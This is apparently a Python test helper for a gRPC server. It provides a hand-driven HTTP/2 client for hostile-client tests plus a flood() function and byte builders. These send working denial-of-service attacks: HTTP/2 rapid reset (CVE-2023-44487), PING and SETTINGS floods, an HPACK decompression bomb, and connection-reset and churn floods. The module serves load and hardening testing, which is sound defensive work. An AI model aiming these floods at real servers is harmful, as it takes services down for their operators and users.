"""A raw HTTP/2 peer for the gRPC port: the calls no gRPC client library
sends on purpose (headers without their message, half a message, idle
connections), built with the `h2` protocol library over a plain socket.

The hostile-client tests (tests/server/serving/test_grpc_hardening.py, tests/server/serving/test_load.py,
tests/server/serving/test_health_port.py) drive it with blocking reads
(`read(timeout_s)`); the attack bench (attack.py) holds hundreds at once and
polls them (`alive()`). `flood` sends what the health port's floods send
(rapid reset, PING, SETTINGS, HPACK bombs, resets, connection churn), for
tests/server/serving/test_health_port_floods.py and `attack.py --health`.
`h2` is a dependency of the server (its health port).
"""

from __future__ import annotations

import itertools
import select
import socket
import struct
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


class H2Peer:
  """One HTTP/2 connection to a gRPC server, driven by hand over a
  non-blocking socket. It acknowledges settings, pings and data, as any
  client does, and sends nothing else unless told."""

  def __init__(self, host: str, port: int, *, timeout_s: float = 10.0,
               source: str | None = None):
    """`source`: the local address to connect from (127.0.0.2 is another
    peer address than 127.0.0.1 on the same loopback)."""
    self.sock = socket.create_connection(
        (host, port), timeout=timeout_s,
        source_address=(source, 0) if source is not None else None)
    self.sock.setblocking(False)
    self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    self.conn.initiate_connection()
    self.authority = f"{host}:{port}"
    self.settled = False  # the server's SETTINGS (its stream limit) came
    self.closed = False
    self.calls: dict[int, float] = {}  # open calls: stream id -> when opened
    self.cut = self.refused = 0  # calls the server ended, refused (REFUSED_STREAM)
    self._statuses: dict[int, str] = {}
    self._unsent: dict[int, bytes] = {}
    self._out = bytearray()
    self._flush()

  def room(self) -> int:
    """Calls this connection may open now (the server's stream limit)."""
    if not self.settled:
      return 0
    return self.conn.remote_settings.max_concurrent_streams - self.conn.open_outbound_streams

  def open_call(self, method: str, *, token: str | None = None,
                declared_bytes: int | None = None, send_bytes: int = 0) -> int:
    """Sends the headers of a call to `method` ("/pkg.Service/Method"), never
    ended. With `declared_bytes`, each later read sends what flow control
    allows of a message prefix declaring that many bytes and `send_bytes` of
    them (none before the server could refuse the call)."""
    stream_id = self.conn.get_next_available_stream_id()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
               (":authority", self.authority), ("content-type", "application/grpc"),
               ("te", "trailers")]
    if token is not None:
      headers.append(("authorization", f"Bearer {token}"))
    self.conn.send_headers(stream_id, headers)
    self.calls[stream_id] = time.monotonic()
    if declared_bytes is not None:
      self._unsent[stream_id] = struct.pack(">BI", 0, declared_bytes) + bytes(send_bytes)
    try:
      self._flush()
    except OSError:
      pass  # gone: the next read says so
    return stream_id

  def read(self, timeout_s: float = 0.5) -> list[h2.events.Event]:
    """Events that arrive within `timeout_s` ([] if none; 0: only those
    already here), answered; then sends what is due. Raises
    ConnectionResetError once the server has closed the connection."""
    if self.closed:
      raise ConnectionResetError("the server closed the connection")
    deadline = time.monotonic() + timeout_s
    try:
      while True:
        events = self._receive()
        self._pump()
        self._flush()
        left = deadline - time.monotonic()
        if events or left <= 0:
          return events
        poller = select.poll()  # not select.select: fds may pass 1,024
        poller.register(self.sock, select.POLLIN)
        poller.poll(left * 1000)
    except (OSError, h2.exceptions.ProtocolError) as e:
      self.close()
      self.cut += len(self.calls)
      self.calls.clear()
      raise ConnectionResetError("the server closed the connection") from e

  def alive(self) -> bool:
    """`read(0)` for a poller: False once the server has closed us."""
    try:
      self.read(0)
      return True
    except ConnectionResetError:
      return False

  def statuses(self) -> dict[int, str]:
    """How each ended call ended, by stream id: its grpc-status, or
    "RST <error code>" for a stream reset without one."""
    return dict(self._statuses)

  def close(self) -> None:
    self.closed = True
    self.sock.close()

  def _receive(self) -> list[h2.events.Event]:
    """Handles whatever has arrived, without waiting."""
    events = []
    while True:
      try:
        data = self.sock.recv(1 << 16)
      except BlockingIOError:
        return events
      if not data:
        raise ConnectionResetError
      for e in self.conn.receive_data(data):
        events.append(e)
        if isinstance(e, h2.events.RemoteSettingsChanged):
          self.settled = True
        elif isinstance(e, h2.events.ConnectionTerminated):
          raise ConnectionResetError
        elif isinstance(e, h2.events.DataReceived):
          self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        elif isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
          status = dict(e.headers).get(b"grpc-status")
          if status is not None:
            self._statuses[e.stream_id] = status.decode()
        elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
          self._ended(e)

  def _ended(self, e: h2.events.StreamEnded | h2.events.StreamReset) -> None:
    self._unsent.pop(e.stream_id, None)
    if isinstance(e, h2.events.StreamReset):
      self._statuses.setdefault(e.stream_id, f"RST {int(e.error_code)}")
    if self.calls.pop(e.stream_id, None) is None:
      return  # its trailers came first
    if isinstance(e, h2.events.StreamEnded):  # trailers: close our side too
      self.cut += 1
      try:
        self.conn.end_stream(e.stream_id)
      except h2.exceptions.StreamClosedError:
        pass
    elif e.error_code == h2.errors.ErrorCodes.REFUSED_STREAM:
      self.refused += 1
    else:
      self.cut += 1

  def _pump(self) -> None:
    """Queues what the flow-control windows allow of each call's body."""
    for stream_id, body in list(self._unsent.items()):
      while body:
        n = min(self.conn.local_flow_control_window(stream_id),
                self.conn.max_outbound_frame_size, len(body))
        if n <= 0:
          break
        self.conn.send_data(stream_id, body[:n])
        body = body[n:]
      if body:
        self._unsent[stream_id] = body
      else:
        del self._unsent[stream_id]

  def _flush(self) -> None:
    """Sends what the socket takes now of what h2 has queued; the rest waits."""
    self._out += self.conn.data_to_send()
    while self._out:
      try:
        sent = self.sock.send(self._out)
      except BlockingIOError:
        return
      del self._out[:sent]


# Floods: what the health port's tests and the attack bench send -------------
#
# Each runs for `seconds` from local address `source` (None: any) and
# returns what it did: "connections" opened, "refused" (the connect failed
# or the server closed it before its SETTINGS came) and "frames" sent. They
# send as fast as the server takes it and read only to drain what it sends.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS = bytes.fromhex("000000040000000000")  # an empty SETTINGS frame
_PING = bytes.fromhex("000008060000000000") + bytes(8)
_CHECK = "/grpc.health.v1.Health/Check"
FLOODS = ("rapid-reset", "ping", "settings", "hpack", "reset", "connect")


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
  return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
      ">I", stream_id) + payload


def rapid_reset_bytes(streams: int, authority: str = "x") -> bytes:
  """A connection's whole flight: the preface, then `streams` Check calls,
  each HEADERS at once followed by RST_STREAM (CVE-2023-44487)."""
  conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
  conn.initiate_connection()
  headers = [(":method", "POST"), (":scheme", "http"), (":path", _CHECK),
             (":authority", authority), ("content-type", "application/grpc"),
             ("te", "trailers")]
  for i in range(streams):
    conn.send_headers(2 * i + 1, headers)
    conn.reset_stream(2 * i + 1, h2.errors.ErrorCodes.CANCEL)
  return conn.data_to_send()


def hpack_bomb_bytes(references: int = 12_000) -> bytes:
  """The preface, then one HEADERS frame whose block adds a 4,000-byte
  header to the HPACK table and names it `references` times more (one byte
  each): ~16 KB that decode to ~48 MB without a bound on the header list."""
  name, value = b"x-bomb", b"b" * 4000
  literal = bytes([0x40, len(name)]) + name + bytes([0x7F]) + _hpack_int(len(value), 7) + value
  block = literal + bytes([0x80 | 62]) * references  # 62: the first dynamic entry
  return PREFACE + _SETTINGS + _frame(0x1, 0x4 | 0x1, 1, block)


def _hpack_int(value: int, prefix_bits: int) -> bytes:
  """The continuation bytes of an HPACK integer whose prefix is full."""
  value -= (1 << prefix_bits) - 1
  out = bytearray()
  while value >= 0x80:
    out.append(value & 0x7F | 0x80)
    value >>= 7
  out.append(value)
  return bytes(out)


def flood(kind: str, host: str, port: int, seconds: float, *, rate: float = 125.0,
          sources: tuple[str | None, ...] = (None,), hold: int = 0) -> dict[str, int]:
  """Floods host:port with `kind` (FLOODS) for `seconds`:
    rapid-reset  `rate` connections/s, each 100 HEADERS + RST_STREAM, then closed
    ping         one connection sending PING frames nonstop (another when closed)
    settings     the same with empty SETTINGS frames
    hpack        `rate` connections/s, each one HPACK bomb (hpack_bomb_bytes)
    reset        `rate` connections/s, each reset (RST) as soon as it connects
    connect      `rate` connections/s, each sending the preface and SETTINGS,
                 the last `hold` of them kept open
  Connections cycle over `sources` (local addresses)."""
  if kind not in FLOODS:
    raise ValueError(f"unknown flood {kind!r}; one of {FLOODS}")
  stats = {"connections": 0, "refused": 0, "frames": 0}
  deadline = time.monotonic() + seconds
  source = itertools.cycle(sources)
  if kind in ("ping", "settings"):
    frame = _PING if kind == "ping" else _SETTINGS
    chunk = frame * (4096 // len(frame))
    while time.monotonic() < deadline:
      sock = _connect(host, port, next(source), stats)
      if sock is None:
        time.sleep(0.01)
        continue
      try:
        sock.sendall(PREFACE + _SETTINGS)
        while time.monotonic() < deadline:
          _drain(sock)
          sock.sendall(chunk)
          stats["frames"] += len(chunk) // len(frame)
      except OSError:
        pass
      sock.close()
    return stats
  flight = {"rapid-reset": rapid_reset_bytes(100), "hpack": hpack_bomb_bytes(),
            "connect": PREFACE + _SETTINGS, "reset": b""}[kind]
  frames = {"rapid-reset": 201, "hpack": 2, "connect": 1, "reset": 0}[kind]
  held: list[socket.socket] = []
  start = time.monotonic()
  while time.monotonic() < deadline:
    wait = start + stats["connections"] / rate - time.monotonic()
    if wait > 0:
      time.sleep(wait)
    sock = _connect(host, port, next(source), stats)
    if sock is None:
      continue
    try:
      if kind == "reset":
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
      else:
        sock.sendall(flight)
        stats["frames"] += frames
    except OSError:
      pass
    if kind == "connect" and hold:
      held.append(sock)
      while len(held) > hold:
        held.pop(0).close()
      for s in list(held) if stats["connections"] % 64 == 0 else ():  # now and then
        try:
          _drain(s)
        except OSError:  # closed by the server
          held.remove(s)
          s.close()
    else:
      sock.close()
  for s in held:
    s.close()
  return stats


def _connect(host: str, port: int, source: str | None,
             stats: dict[str, int]) -> socket.socket | None:
  stats["connections"] += 1
  try:
    sock = socket.create_connection((host, port), timeout=5,
                                    source_address=(source, 0) if source else None)
  except OSError:
    stats["refused"] += 1
    return None
  sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
  return sock


def _drain(sock: socket.socket) -> None:
  """Reads what has arrived, without waiting (the server closed it: OSError)."""
  sock.setblocking(False)
  try:
    while True:
      if not sock.recv(1 << 16):
        raise ConnectionResetError("closed by the server")
  except BlockingIOError:
    pass
  finally:
    sock.setblocking(True)
